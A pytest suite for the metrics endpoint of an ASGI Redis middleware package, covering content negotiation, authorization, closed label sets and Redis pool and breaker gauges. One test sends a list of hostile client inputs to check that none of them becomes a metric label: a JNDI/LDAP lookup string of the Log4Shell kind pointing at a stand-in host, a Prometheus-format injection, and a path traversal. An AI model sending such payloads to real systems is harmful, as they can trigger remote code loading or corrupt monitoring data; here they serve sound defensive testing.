"""The metrics page: what it says, to whom, and by which labels."""

import asyncio
import re
import sys
import threading
from typing import Any
from urllib.parse import quote

import httpx
import pytest
import redis.asyncio as aioredis
from prometheus_client import Counter
from prometheus_client.openmetrics.parser import text_string_to_metric_families as parse_openmetrics
from prometheus_client.parser import text_string_to_metric_families as parse_text
from redis.asyncio.retry import Retry
from redis.backoff import NoBackoff
from starlette.applications import Starlette
from starlette.requests import HTTPConnection, Request
from starlette.responses import JSONResponse
from starlette.routing import Route

from redis_asgi import (
    EmbeddingCacheMiddleware,
    RateLimiter,
    RateLimitMiddleware,
    RedisManager,
    Rule,
    Settings,
    by_header,
    metrics_app,
    status_app,
)
from redis_asgi.asgi.sub_app import SubApp
from redis_asgi.sub_apps.prometheus import counted as counted_families
from redis_asgi.telemetry import Telemetry

from ..kit.documents import section, table
from ..kit.servers import ExternalServer
from .scrapes import CLOSED_SETS, KEYS, MEMORY, StartServer, client_of, samples, scraped, use_every_metric

pytestmark = [pytest.mark.anyio, pytest.mark.usefixtures("counted")]


async def test_app_is_one_of_ours(settings: Settings) -> None:
    """It has the manners of every sub-app: mounted anywhere, read-only,
    asked for by name or not at all.
    """
    app = metrics_app(settings=settings)
    outer = Starlette()
    outer.mount("/metrics", app)
    async with client_of(outer) as client:
        answers = {path: (await client.get(path)).status_code for path in ("/metrics/", "/metrics/json", "/metrics/x")}
        posted = await client.post("/metrics/")

    assert isinstance(app, SubApp)
    assert {"/metrics/": 200, "/metrics/json": 200, "/metrics/x": 404} == answers
    assert (405, "GET, HEAD") == (posted.status_code, posted.headers["allow"])


async def test_authorize_is_asked_for_every_page(settings: Settings) -> None:
    """Neither page is shown to whom the app does not know."""

    async def knows(connection: HTTPConnection) -> bool:
        return connection.headers.get("authorization") == "Bearer ops"

    app = metrics_app(settings=settings, authorize=knows)
    for path in ("/", "/json"):
        assert 403 == (await scraped(app, path)).status_code
        assert 200 == (await scraped(app, path, authorization="Bearer ops")).status_code


PROMETHEUS = (
    "application/openmetrics-text;version=1.0.0;escaping=allow-utf-8;q=0.6,"
    "application/openmetrics-text;version=0.0.1;q=0.5,text/plain;version=1.0.0;q=0.4,"
    "text/plain;version=0.0.4;q=0.3,*/*;q=0.2"
)


@pytest.mark.parametrize(
    ("accept", "kind"),
    [
        ("*/*", "text/plain; version=0.0.4"),
        ("text/plain", "text/plain; version=0.0.4"),
        ("application/openmetrics-text; version=1.0.0", "application/openmetrics-text; version=1.0.0"),
        (PROMETHEUS, "application/openmetrics-text; version=1.0.0"),
        ("application/json", "application/json"),
        ("application/json;q=0.9, */*;q=0.1", "application/json"),
        ("application/json, text/plain", "text/plain; version=0.0.4"),
        ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "text/plain; version=0.0.4"),
    ],
)
async def test_accept_decides(settings: Settings, accept: str, kind: str) -> None:
    """Prometheus gets what it asks for, a script JSON, a browser something to read."""
    answer = await scraped(metrics_app(settings=settings), accept=accept)

    assert answer.headers["content-type"].startswith(kind)
    assert "no-store" == answer.headers["cache-control"]
    if "openmetrics" in kind:
        assert list(parse_openmetrics(answer.text))
    elif kind == "application/json":
        assert "middleware" in answer.json()
    else:
        assert list(parse_text(answer.text))
        assert "accept" == answer.headers["vary"]


async def test_no_created_series(settings: Settings, counted: Telemetry) -> None:
    """Ours have none, in either format, and the app's own keep them if it wants them."""
    use_every_metric(counted)
    app = metrics_app(settings=settings)
    mine = Counter("mine", "The app's.", registry=None)
    mine.inc()

    for accept in ("*/*", "application/openmetrics-text; version=1.0.0"):
        text = (await scraped(app, accept=accept)).text
        assert "redis_asgi_cache_saved_tokens_total 1.0" in text
        assert "_created" not in text
    assert "mine_created" in {sample.name for family in mine.collect() for sample in family.samples}


async def embed(request: Request) -> JSONResponse:
    """An embedding server of vectors with two numbers."""
    body = await request.json()
    count = 1 if isinstance(body["input"], str) else len(body["input"])
    data = [{"object": "embedding", "index": i, "embedding": [0.5, 1.0]} for i in range(count)]
    usage = {"prompt_tokens": count, "total_tokens": count}
    return JSONResponse({"object": "list", "data": data, "model": body["model"], "usage": usage})


async def test_labels_are_of_closed_sets(redis_server: ExternalServer, counted: Telemetry) -> None:
    """No value of a label is a client, a key or a text: all come from small sets, or from the code."""
    settings = Settings(REDIS_URL=redis_server.url, REDIS_KEY_PREFIX="prefix-7:", RATE_LIMIT_TIMEOUT=2)
    rules = [
        Rule("2/minute", name="by-key", paths="/secret-path", partition_by=by_header("x-api-key")),
        Rule("9/minute", name="by-ip"),
    ]
    app = Starlette(routes=[Route("/v1/embeddings", embed, methods=["POST"])])
    app.add_middleware(EmbeddingCacheMiddleware, namespace="secret-namespace", settings=settings)
    app.add_middleware(RateLimitMiddleware, rules=rules, settings=settings)
    app.mount("/metrics", metrics_app(settings=settings))
    use_every_metric(counted)
    async with client_of(app) as client:
        for _ in range(3):
            await client.get("/secret-path", headers={"x-api-key": "secret-key"})
        for text in ("secret text", "secret text", ["secret text", "secret other"]):
            asked = {"model": "secret-model", "input": text}
            answer = await client.post("/v1/embeddings", json=asked, headers={"authorization": "Bearer secret-token"})
            assert "redis-asgi" in answer.headers["cache-status"]
        await RateLimiter(settings=settings).consume("secret-client")
        text = (await client.get("/metrics/")).text

    for secret in ("secret", "127.0.0.1", "prefix-7", "rate_limit:", "embedding_"):
        assert secret not in text
    for family in parse_text(text):
        name = family.name.removeprefix("redis_asgi_")
        for sample in family.samples:
            for label, value in sample.labels.items():
                if (name, label) in CLOSED_SETS:
                    assert value in CLOSED_SETS[name, label], sample
                else:
                    assert (name, label) in ALSO_LABELLED or label == "le", sample
    assert {"default", "by-key", "by-ip"} >= set(re.findall(r'policy="([^"]*)"', text))


HOSTILE = [
    'evil"} 1\n# HELP evil evil\nevil{a="b',
    "redis_asgi_ratelimit_requests_total 999",
    "\\n\\",
    "e\u0301vil-\u202e-\U0001f608",
    "evil" * 500,
    "../../evil",
    "${jndi:ldap://evil}",
]


async def test_hostile_clients_reach_no_label(redis_server: ExternalServer, counted: Telemetry) -> None:
    """Whatever clients call themselves,
    what they ask for and where they say they are from: not a series more.
    """
    settings = Settings(REDIS_URL=redis_server.url, RATE_LIMIT_TIMEOUT=2, RATE_LIMIT_TRUSTED_PROXIES=["127.0.0.1"])
    rules = [
        Rule("9/minute", name="by-key", partition_by=by_header("x-api-key")),
        Rule("99/minute", name="by-ip"),
        Rule(lambda conn: f"{len(conn.headers['x-api-key'])}/hour", name="by-plan", partition_by=by_header("x-plan")),
    ]
    app = Starlette(routes=[Route("/v1/embeddings", embed, methods=["POST"])])
    app.add_middleware(EmbeddingCacheMiddleware, namespace="labels", settings=settings)
    app.add_middleware(RateLimitMiddleware, rules=rules, settings=settings)
    metrics = metrics_app(settings=settings)

    async def ask(who: str) -> httpx.Response:
        fields = {"x-api-key": who, "x-plan": who, "x-forwarded-for": who, "authorization": f"Bearer {who}"}
        headers = {name.encode(): value.encode().replace(b"\n", b"\\n") for name, value in fields.items()}
        asked = {"model": who, "input": [who], "encoding_format": who, "dimensions": 2}
        await client.get(f"/{quote(who, safe='')}", headers=headers)
        return await client.post("/v1/embeddings", params={"q": who}, headers=headers, json=asked)

    async with client_of(app) as client:
        for _ in range(2):
            assert 200 == (await ask("friend")).status_code
        friendly = set(await samples(metrics))
        for who in HOSTILE:
            assert 200 == (await ask(who)).status_code
            await RateLimiter(settings=settings).consume(who)
        text = (await scraped(metrics)).text

    hostile = {name for name in await samples(metrics) if 'policy="default"' not in name}
    assert friendly == hostile
    assert "evil" not in text
    assert " 999" not in text
    assert list(parse_text(text))


ALSO_LABELLED = {
    (name, "policy") for name in ("ratelimit_policy", "ratelimit_used_units", "ratelimit_estimate_error_units")
} | {("build_info", label) for label in ("version", "redis_client", "server")}


async def test_scrape_leaves_the_loop_to_others(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    """What is counted is put together in a thread that gives way ten times as soon, and in no other
    time.
    """
    usual = sys.getswitchinterval()
    seen: list[tuple[float, int]] = []

    def watching() -> Any:
        seen.append((sys.getswitchinterval(), threading.get_ident()))
        return counted_families()

    monkeypatch.setattr("redis_asgi.sub_apps.metrics.counted", watching)
    async with client_of(metrics_app(settings=settings)) as client:
        for path in ("/", "/", "/json"):
            assert 200 == (await client.get(path)).status_code
            assert usual == sys.getswitchinterval()
    assert [usual / 10] * 3 == pytest.approx([interval for interval, _ in seen])
    [thread] = {thread for _, thread in seen}
    assert thread != threading.get_ident()


async def test_gauges_say_how_it_is_now(redis_server: ExternalServer) -> None:
    """The pool by state, clients counted here, and that Redis is up."""
    manager = RedisManager(Settings(REDIS_URL=redis_server.url, REDIS_POOL_SIZE=3))
    app = metrics_app(redis=manager)
    client = await manager.get_connection()
    assert isinstance(client, aioredis.Redis)
    await client.ping()
    held = await client.connection_pool.get_connection()
    try:
        now = await samples(app)
    finally:
        await client.connection_pool.release(held)

    assert 1 == now["redis_up"]
    assert [1, 0, 3] == [now[f'redis_pool_connections{{state="{state}"}}'] for state in ("in_use", "idle", "max")]
    assert (0, 100_000) == (now["ratelimit_local_partitions"], now["ratelimit_local_partitions_max"])
    (about,) = (name for name in now if name.startswith("build_info"))
    assert re.fullmatch(r'build_info\{redis_client="[\d.]+",server="\w+ [\d.]+",version="[\d.]+"\}', about)
    assert 0 == now["breaker_state"]
    assert 1 == (await samples(app))['redis_pool_connections{state="idle"}']


async def test_pool_of_the_users_own_making_is_left_out(redis_url: str) -> None:
    """What it has open nobody knows: the scrape and the page go without, and all else is there."""

    class Own:
        """A pool that keeps its books elsewhere."""

        def __init__(self, pool: aioredis.ConnectionPool) -> None:
            self.connection_kwargs = pool.connection_kwargs
            self.make_connection = pool.make_connection

    client = aioredis.Redis.from_url(redis_url, retry=Retry(NoBackoff(), 0))
    client.connection_pool = Own(client.connection_pool)  # type: ignore[assignment]  # what is tested
    now = await samples(metrics_app(redis=client))
    page = await scraped(status_app(redis=client))

    assert 1 == now["redis_up"]
    assert not [name for name in now if "pool_connections" in name]
    assert 200 == page.status_code


async def test_clients_counted_here_are_shown() -> None:
    """On ``memory://`` those of the manager; while Redis is gone,
    those of its stand-in and nobody's name.
    """
    manager = RedisManager(MEMORY)
    limiter = RateLimiter(manager)
    for client in "abc":
        await limiter.consume(client)

    assert 3 == (await samples(metrics_app(redis=manager)))["ratelimit_local_partitions"]


@pytest.mark.parametrize(("state", "number"), [("closed", 0), ("half_open", 1), ("open", 2)])
async def test_breaker_is_shown(state: Any, number: int) -> None:
    """As a number that an alert can compare, and as a word in JSON."""

    class Broken(RedisManager):
        @property
        def breaker_state(self) -> Any:
            asyncio.get_running_loop()  # it is the loop's
            return state

    app = metrics_app(redis=Broken(MEMORY))

    assert number == (await samples(app))["breaker_state"]
    assert state == (await scraped(app, "/json")).json()["middleware"]["breaker"]


async def test_server_gauges_are_what_info_says(private_server: StartServer) -> None:
    """With the suffixes of redis_exporter, and its types."""
    server = private_server("--maxmemory", "50mb")
    server.client().get("absent")
    app = metrics_app(redis=server.url)
    now = await samples(app)
    info: dict[str, Any] = server.client().info()

    assert 50 * 1024 * 1024 == now["server_memory_max_bytes"]
    assert now["server_memory_used_bytes"] == pytest.approx(info["used_memory"], rel=0.3)
    assert 1 == now["server_keyspace_misses_total"]
    assert now["server_rdb_last_save_timestamp_seconds"] == info["rdb_last_save_time"]
    assert 14 == len([name for name in now if name.startswith("server_")])
    types = {family.name: family.type for family in parse_text((await scraped(app)).text)}
    assert "counter" == types["redis_asgi_server_evicted_keys"]
    assert "gauge" == types["redis_asgi_server_connected_clients"]


async def test_json_has_both_halves(redis_server: ExternalServer, counted: Telemetry) -> None:
    """What Redis says, and what the package has counted."""
    counted.ratelimit_requests.labels("allowed", "redis").inc(3)
    counted.ratelimit_requests.labels("allowed", "local").inc(4)
    counted.ratelimit_requests.labels("refused", "refusal_memory").inc(2)
    counted.ratelimit_policy.labels("default", "allowed").inc(7)
    counted.ratelimit_policy.labels("default", "shadow_refused").inc(1)
    counted.ratelimit_fallback.labels("local", "timeout").inc(4)
    counted.cache_requests.labels("partial").inc(1)
    counted.cache_items.labels("hit").inc(3)
    counted.cache_items.labels("miss").inc(1)
    counted.cache_saved_tokens.inc(30)
    answer = (await scraped(metrics_app(redis=redis_server.url), "/json")).json()

    assert [*KEYS, "middleware"] == list(answer)
    assert answer["memory_used"] > 0
    middleware = answer["middleware"]
    assert {
        "allowed": 7,
        "refused": 2,
        "exempt": 0,
        "unavailable": 0,
        "fallbacks": 4,
        "policies": {"default": {"allowed": 7, "refused": 0, "shadow_refused": 1}},
    } == middleware["ratelimit"]
    assert {"hit": 0, "partial": 1, "miss": 0, "stale": 0, "bypass": 0, "error": 0} == middleware["cache"]["requests"]
    assert {"hit": 3, "miss": 1, "collapsed": 0} == middleware["cache"]["inputs"]
    assert (0.75, 30) == (middleware["cache"]["hit_rate"], middleware["cache"]["saved_tokens"])


async def test_guide_lists_every_metric(redis_server: ExternalServer, counted: Telemetry) -> None:
    """With its type and its labels; those of the server are one row."""
    use_every_metric(counted)
    manager = RedisManager(Settings(REDIS_URL=redis_server.url))
    async with RateLimiter(manager).slot("a", 1):
        text = (await scraped(metrics_app(redis=manager))).text
    there = {}
    for family in parse_text(text):
        name = family.name.removeprefix("redis_asgi_") + "_total" * (family.type == "counter")
        labels = {label for sample in family.samples for label in sample.labels} - {"le"}
        there[name] = (family.type, labels)
    listed = {
        row[0].strip("`"): (row[1], set(re.findall(r"`(\w+)`", row[2])))
        for row in table(section("### What is counted"))
        if row[0] != "`server_*`"
    }

    assert {name: about for name, about in there.items() if not name.startswith("server_")} == listed
    assert 14 == len([name for name in there if name.startswith("server_")])
